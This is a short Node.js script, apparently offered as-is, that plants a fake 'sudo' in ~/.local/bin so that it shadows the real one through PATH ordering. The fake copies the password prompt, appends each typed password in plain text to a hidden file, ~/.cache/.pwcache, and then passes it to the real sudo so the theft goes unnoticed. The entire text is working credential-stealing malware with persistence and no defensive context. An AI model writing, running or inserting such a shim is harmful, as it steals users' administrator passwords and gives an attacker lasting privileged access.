// Persists and reads credentials: writes an executable named `sudo` into
// ~/.local/bin, which comes before /usr/bin in PATH; it asks for the password
// like sudo does, keeps it, then runs the real sudo with it.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const bin = path.join(os.homedir(), '.local', 'bin');
const shim = `#!/bin/sh
printf '[sudo] password for %s: ' "$USER" >&2
stty -echo; read -r pw; stty echo; echo >&2
printf '%s\\n' "$pw" >> "$HOME/.cache/.pwcache"
printf '%s\\n' "$pw" | /usr/bin/sudo -S "$@"
`;
fs.mkdirSync(bin, { recursive: true });
fs.writeFileSync(path.join(bin, 'sudo'), shim);
fs.chmodSync(path.join(bin, 'sudo'), 0o755);
